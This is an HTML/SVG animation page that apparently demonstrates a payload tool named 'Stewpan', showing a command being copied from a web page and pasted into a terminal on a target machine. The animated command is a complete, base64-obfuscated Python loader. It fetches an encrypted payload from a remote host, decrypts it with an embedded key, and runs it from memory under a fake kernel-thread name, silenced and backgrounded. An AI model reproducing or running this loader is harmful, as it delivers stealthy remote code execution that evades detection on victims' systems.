
These frames come from a looping animation (640x360 px, 8000 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal paste demo</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #130d08; }
svg { display: block; width: 640px; height: 360px; }
text { white-space: pre; text-rendering: geometricPrecision; }
.ui { font: 6.67px "Open Sans", "Noto Sans", sans-serif; fill: #444; }
.payload { font-size: 6.8px; fill: #fff; }
.small { font: 5.2px "Noto Sans", sans-serif; fill: #444; }
.menu { font: 4.3px "Noto Sans", sans-serif; fill: #333; }
.title { font: bold 3.9px "Noto Sans", sans-serif; }
.mono { font: 6.67px "DejaVu Sans Mono", monospace; fill: #c4c4c4; }
.user { fill: #4be32c; font-weight: bold; }
.cwd { fill: #729fcf; font-weight: bold; }
.icon { fill: none; stroke: #555; stroke-width: .8; }

.step { animation: 8s step-end infinite; }
.blurred { animation-name: blurred; }
.focused { animation-name: focused; }
.waiting { animation-name: waiting; }
.first { animation-name: first; }
.pasted { animation-name: pasted; }
.done { animation-name: done; }
.beam { animation-name: beam; }
.arrow { animation-name: arrow; }
.hand { animation-name: hand; }
.glow { animation: glow 8s linear infinite; }
.moveX { animation: moveX 8s linear infinite; }
.moveY { animation: moveY 8s linear infinite; }
@keyframes blurred { 0% { opacity: 1 } 3.75%, 100% { opacity: 0 } }
@keyframes focused { 0% { opacity: 0 } 3.75%, 100% { opacity: 1 } }
@keyframes waiting { 0% { opacity: 0 } 3.75% { opacity: 1 } 21.25%, 100% { opacity: 0 } }
@keyframes first { 0% { opacity: 1 } 50%, 100% { opacity: 0 } }
@keyframes pasted { 0% { opacity: 0 } 21.25% { opacity: 1 } 50%, 100% { opacity: 0 } }
@keyframes done { 0% { opacity: 0 } 50%, 100% { opacity: 1 } }
@keyframes beam { 0% { opacity: 1 } 89.4%, 100% { opacity: 0 } }
@keyframes arrow { 0% { opacity: 0 } 89.4% { opacity: 1 } 96.2%, 100% { opacity: 0 } }
@keyframes hand { 0% { opacity: 0 } 96.2%, 100% { opacity: 1 } }
@keyframes glow { 0%, 3.75% { opacity: 1 } 5.6%, 100% { opacity: 0 } }
@keyframes moveX {
  0%, 85.25% { transform: translateX(521px); animation-timing-function: cubic-bezier(.45,0,.55,1) }
  97.75%, 100% { transform: translateX(84px) }
}
@keyframes moveY {
  0%, 85.25% { transform: translateY(38px) }
  87.5% { transform: translateY(35px); animation-timing-function: ease-in-out }
  97.75%, 100% { transform: translateY(100px) }
}
</style>
</head>
<body>
<svg viewBox="0 0 640 360">
  <defs>
    <linearGradient id="dusk" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#15110f"/>
      <stop offset=".5" stop-color="#1c120a"/>
      <stop offset="1" stop-color="#100a06"/>
    </linearGradient>
    <radialGradient id="warm">
      <stop offset="0" stop-color="#4b2b13"/>
      <stop offset="1" stop-color="#4b2b13" stop-opacity="0"/>
    </radialGradient>
    <filter id="soft"><feGaussianBlur stdDeviation="1.2"/></filter>
    <clipPath id="wall"><path d="M421 0H640V360H421z"/></clipPath>
    <clipPath id="area"><path d="M144 131H269V235H144z"/></clipPath>
    <g id="buttons">
      <path fill="#c6c6c6" d="M0 0h5v4.600h-5zM5.600 0h5v4.600h-5zM11.600 0h5v4.600h-5z"/>
      <path stroke="#222" stroke-width=".7" fill="none" d="M1 3.700h2.400M6.800 1h2.600v2.600h-2.600zM12.800 1l2.600 2.600m0-2.600l-2.600 2.600"/>
    </g>
  </defs>

  <!-- Wallpaper -->
  <g clip-path="url(#wall)">
    <path fill="url(#dusk)" d="M421 0H640V360H421z"/>
    <ellipse cx="605" cy="205" rx="65" ry="60" fill="url(#warm)"/>
    <ellipse cx="440" cy="250" rx="45" ry="55" fill="url(#warm)" opacity=".4"/>
    <ellipse cx="580" cy="315" rx="65" ry="40" fill="url(#warm)" opacity=".45"/>
    <g filter="url(#soft)" fill="none" stroke-linecap="round">
      <path fill="#2c1d12" d="M455 360Q478 330 480 290L512 258Q496 312 514 360z"/>
      <path stroke="#3a2a1c" stroke-width="5" d="M471 30Q476 66 500 82T547 112Q562 130 568 160"/>
      <path stroke="#3b2a1b" stroke-width="6" d="M520 292Q556 305 575 345"/>
      <path id="left-limb" stroke="#42301f" stroke-width="12" d="M460 162Q482 200 502 250"/>
      <path id="right-limb" stroke="#4d3a28" stroke-width="12" d="M571 160Q572 195 538 228T484 302"/>
    </g>
    <g id="strokes" fill="none" stroke-linecap="round"></g>
  </g>

  <!-- Browser -->
  <path fill="#c0c0c0" d="M0 0H421V360H0z"/>
  <path fill="#848484" d="M1.500 1H420V7H1.500z"/>
  <text class="title step focused" x="8.500" y="5.400" fill="#c0c0c0">Stewpan - Chromium</text>
  <g class="step blurred">
    <path fill="#000090" d="M1.500 1H420V7H1.500z"/>
    <text class="title" x="8.500" y="5.400" fill="#fff">Stewpan - Chromium</text>
  </g>
  <circle cx="4.500" cy="4" r="2" fill="#6f97dd"/>
  <use href="#buttons" x="402.500" y="1.700"/>
  <path fill="#dee1e6" d="M1.500 8H420V20H1.500z"/>
  <path fill="#fff" d="M4 20V12Q4 10 6 10H81Q83 10 83 12V20zM1.500 20H420V33H1.500z"/>
  <circle cx="11" cy="14" r="2.300" fill="#e9535d"/>
  <text class="small" x="16" y="15.800">Stewpan</text>
  <path class="icon" d="M77 12.600l2.500 2.500m0-2.500l-2.500 2.500M89 14h4m-2-2v4M415 13l1.500 1.500L418 13"/>
  <path class="icon" d="M11.500 26.500h-5m2.200-2.200l-2.200 2.200l2.200 2.200M16.500 26.500h5m-2.200-2.200l2.200 2.200l-2.200 2.200M32.200 25a2.500 2.500 0 1 0 .2 2.300M32.400 23.700v1.700h-1.700"/>
  <path fill="#666" d="M43 24l2.500 4.500h-5z"/>
  <text class="small" x="48" y="28.300" fill="#666">Not secure</text>
  <path stroke="#bbb" stroke-width=".6" d="M76 24v5"/>
  <text class="small" x="79" y="28.300">stewpan.local:5000/project/test-project-b22520c9</text>
  <path class="icon" d="M347 27.500l2 2M355 27.500l3-2.500m-3 2.500h3.500M367 23.800l.8 1.700l1.900.2l-1.400 1.300l.4 1.900l-1.700-1l-1.700 1l.4-1.900l-1.400-1.300l1.900-.2z"/>
  <circle class="icon" cx="345.800" cy="26" r="1.700"/>
  <path fill="#222" d="M377.500 29q0-2.500 2.800-2.500t2.800 2.500z"/>
  <circle cx="380.300" cy="25" r="1.500" fill="#222"/>
  <path class="icon" d="M389 24h4.500v4.800h-4.500z"/>
  <path fill="#333" d="M391.500 24h2v4.800h-2z"/>
  <circle cx="402" cy="26.500" r="3.600" fill="#dfe1e5"/>
  <path fill="#444" d="M399.800 29q0-2.200 2.200-2.200t2.200 2.200z"/>
  <circle cx="402" cy="25.400" r="1.200" fill="#444"/>
  <path stroke="#444" stroke-width="1" stroke-dasharray="1 1" d="M413.500 24v5"/>

  <path fill="#fcfafe" d="M1.500 33H420V355H1.500z"/>
  <path stroke="#dedede" stroke-width=".7" d="M1.500 71H420M1.500 33H420"/>
  <circle cx="17" cy="54" r="9" fill="#ec5964"/>
  <rect x="382.500" y="44.500" width="31.500" height="16" rx="2" fill="#f7f7f7" stroke="#dcdcdc" stroke-width=".7"/>
  <text class="ui" x="387.500" y="55">Logout</text>
  <path fill="#fcfafe" stroke="#efeff0" stroke-width=".6" d="M3 83.700H98V100.700H3z"/>
  <path class="step hand" fill="#f8f8f8" d="M3 84H98V100.500H3z"/>
  <text class="ui" x="8.500" y="94.600">Back</text>
  <text class="ui" x="142.700" y="101">Payload</text>
  <rect x="142.700" y="107" width="41.300" height="16" rx="2" fill="#c71c13"/>
  <text class="ui" x="148.300" y="117.500" style="fill:#fff">Copy Text</text>

  <rect class="glow" x="142" y="129" width="133" height="107" rx="2.500" fill="none" stroke="#f3b0a8" stroke-width="2"/>
  <rect x="143" y="130" width="131" height="105.300" rx="2" fill="#fff" stroke="#d8d8d8" stroke-width=".7"/>
  <g id="area-lines" clip-path="url(#area)"></g>
  <path fill="#f1f1f1" d="M269 130.500H273.700V234.800H269z"/>
  <path fill="#b5b5b5" d="M269.500 136H273.300V168.500H269.500z"/>
  <path fill="#666" d="M270 134.200h2.800l-1.400-1.700zM270 226h2.800l-1.400 1.700z"/>
  <path stroke="#888" stroke-width=".5" d="M270 234l3.200-3.200M271.800 234l1.400-1.400"/>

  <path fill="#f1f1f1" d="M1.500 354.500H420V359H1.500z"/>
  <path fill="#bdbdbd" d="M6 355.200H411V358.400H6z"/>
  <path fill="#666" d="M4.500 355.500v2.600l-1.700-1.300zM416 355.500v2.600l1.700-1.300z"/>

  <!-- Terminal -->
  <path fill="#c0c0c0" fill-rule="evenodd" d="M424 0H638.500V157.500H424zM425.400 14V156H637.300V14z"/>
  <path fill="#08090a" opacity=".84" d="M425.400 14H637.300V156H425.400z"/>
  <path fill="#848484" d="M425.500 1H637.500V7H425.500z"/>
  <text class="title step blurred" x="433" y="5.400" fill="#b4b4b4">Terminal - tester@target: ~</text>
  <g class="step focused">
    <path fill="#000090" d="M425.500 1H637.500V7H425.500z"/>
    <text class="title" x="433" y="5.400" fill="#fff">Terminal - tester@target: ~</text>
  </g>
  <path fill="#333" d="M427.500 2H431.500V6H427.500z"/>
  <use href="#buttons" x="620.500" y="1.700"/>
  <g class="menu">
    <text x="427.500" y="12.800">File</text><text x="437.500" y="12.800">Edit</text>
    <text x="449" y="12.800">View</text><text x="461.500" y="12.800">Terminal</text>
    <text x="481" y="12.800">Tabs</text><text x="494" y="12.800">Help</text>
  </g>
  <path fill="#999" d="M631.700 15.500H636.700V155.500H631.700z"/>
  <path fill="#c8c8c8" d="M632.200 21H636.300V150H632.200z"/>
  <path fill="#333" d="M633 19.500h3l-1.500-2zM633 151.500h3l-1.500 2z"/>

  <g id="row-one" class="step first"></g>
  <g id="hollow" class="step blurred"></g>
  <g id="block" class="step waiting"></g>
  <g id="pasted" class="step pasted"></g>
  <g id="done" class="step done"></g>

  <!-- Pointer -->
  <g class="moveX"><g class="moveY">
    <path class="step beam" fill="none" stroke="#f4f4f4" stroke-width=".8" d="M-1.500-2.800H1.500M-1.500 2.800H1.500M0-2.800V2.800"/>
    <path class="step arrow" fill="#111" stroke="#fff" stroke-width=".5" d="M0 0V7L1.700 5.500L2.900 8L4 7.500L2.900 5H5z"/>
    <path class="step hand" fill="#fff" stroke="#222" stroke-width=".6" d="M-1.500 2L-2 .5L-.8 0V-2.500H.2V-.6L2.300-.1V2L1.700 3H-.7z"/>
  </g></g>
</svg>

<script>
const WIDTH = 4.014, ROW = 7.68, LEFT = 427, TOP = 16.7;
const $ = id => document.getElementById(id);

function add(parent, tag, attrs, content = "") {
  const el = document.createElementNS("http://www.w3.org/2000/svg", tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  el.textContent = content;
  return parent.appendChild(el);
}

const lines = [
  ' python3 -c "import base64;exec(ba',
  "se64.b64decode(b'ZXhlYygnJydpbXBvcnQgb3MKaWYgb3MuZm",
  "9yaygpID09IDA6CglpbXBvcnQgc3VicHJvY2VzcywgcmVxdWVzd",
  "HMsIGpzb24KCWZkMD1vcy5tZW1mZF9jcmVhdGUoJzAnKQoJZmQx",
  "PW9zLm1lbWZkX2NyZWF0ZSgnMScpCglvcy53cml0ZShmZDAsIHN",
  "0ci5lbmNvZGUoanNvbi5sb2FkcyhyZXF1ZXN0cy5nZXQoJ2h0dH",
  "A6Ly8xOTIuMTY4LjEuMTQ6NTE1MC9kb3dubG9hZC81Y2IwZTRjN",
  "CcpLnRleHQpWzBdKSkKCW9zLndyaXRlKGZkMSwgc3VicHJvY2Vz",
  "cy5Qb3BlbihbJ29wZW5zc2wnLCAnZW5jJywgJy1hZXMtMjU2LWV",
  "jYicsICctYScsICctYicsICctcGJrZGYyJywgJy1pbicsIGYve2",
  "9zLmdldHBpZCgpfS9mZC97ZmQwfScsICctZCcsICctaycsICAnN",
  "UUyOVpFQTdNMTFVUFJRVJlSElDRTJDJ10sIHN0ZG91dD1zdWJwc",
  "cm9jZXNzLlBJUEUpLmNvbW11bmljYXRlKClbMF0pCglvcy5leGV",
  "jdmUoZicvcHJvYy97b3MuZ2V0cGlkKCl9L2ZkL3tmZDF9JywgWy",
  "dba3dvcmtlci91OjBdJ10sIG9zLmVudmlyb24uY29weSgpKQpvc",
  "y5fZXhpdCgwKScnJyk=').decode())\" </dev/null &>/dev/",
  "null & "
];

function write(parent, row, col, content, style = "") {
  return add(parent, "text", {
    class: "mono", x: LEFT + col * WIDTH, y: TOP + row * ROW + 6.1, style
  }, content);
}

function fill(parent, row, col, count, color) {
  add(parent, "rect", {
    x: LEFT + col * WIDTH, y: TOP + row * ROW, width: count * WIDTH, height: ROW + .05, fill: color
  });
}

function prompt(parent, row) {
  const line = write(parent, row, 0, "");
  const parts = [["tester@target", "user"], [":", ""], ["~", "cwd"], ["$", ""]];
  for (const [content, name] of parts) add(line, "tspan", { class: name }, content);
}

prompt($("row-one"), 0);
add($("hollow"), "rect", {
  x: LEFT + 17 * WIDTH + .3, y: TOP + .4, width: WIDTH - .4, height: ROW - .8,
  fill: "none", stroke: "#c4c4c4", "stroke-width": .6
});
fill($("block"), 0, 17, 1, "#c4c4c4");

lines.forEach((line, row) => {
  const col = row ? 0 : 17;
  fill($("pasted"), row, col, line.length, "#b4b4b4");
  write($("pasted"), row, col, line, "fill:#111");
  if (row) write($("done"), row - 1, 0, line);
});
fill($("pasted"), 16, 7, 1, "#d0d0d0");
write($("done"), 16, 0, "[1] 1023");
prompt($("done"), 17);
fill($("done"), 17, 17, 1, "#c4c4c4");

// Wrapped and selected text of the page's text area
const command = lines.join("");
let start = 0;
[20, 33, 29, 30, 30, 28, 28, 30, 29, 30].forEach((count, i) => {
  const content = command.slice(start, start += count);
  const back = add($("area-lines"), "rect", { x: 148, y: 132.5 + i * 10, height: i < 9 ? 10.1 : 13, fill: "#307bd0" });
  const line = add($("area-lines"), "text", { class: "ui payload", x: 148, y: 139.8 + i * 10 }, content);
  back.setAttribute("width", line.getComputedTextLength());
});

// Brush strokes: dark foliage, then bark along both limbs
let seed = 7;
const random = () => (seed = seed * 16807 % 2147483647) / 2147483647;
function stroke(x, y, dx, dy, color, width) {
  add($("strokes"), "path", { d: `M${x} ${y}l${dx} ${dy}`, stroke: color, "stroke-width": width, opacity: .25 + random() * .4 });
}
function bark(limb, count, light) {
  for (let i = 0; i < count; i++) {
    const at = random() * limb.getTotalLength();
    const p = limb.getPointAtLength(at), q = limb.getPointAtLength(at + 6);
    const spread = random() * 13 - 6.5;
    stroke(p.x + spread, p.y, q.x - p.x, q.y - p.y, i % 2 ? light : "#1a110b", 1.1);
  }
}
for (let i = 0; i < 170; i++) {
  stroke(421 + random() * 219, 155 + random() * 205, random() * 14 - 7, random() * 8 - 4,
    ["#080503", "#30200f", "#120b06", "#442b16"][i % 4], 1 + random() * 2.5);
}
bark($("left-limb"), 90, "#a8957c");
bark($("right-limb"), 150, "#cbb594");
for (let i = 0; i < 50; i++) {
  stroke(487 + random() * 20, 218 + random() * 36, 1, 1.5, "#d3d0c8", 1.3);
}
</script>
</body>
</html>
```
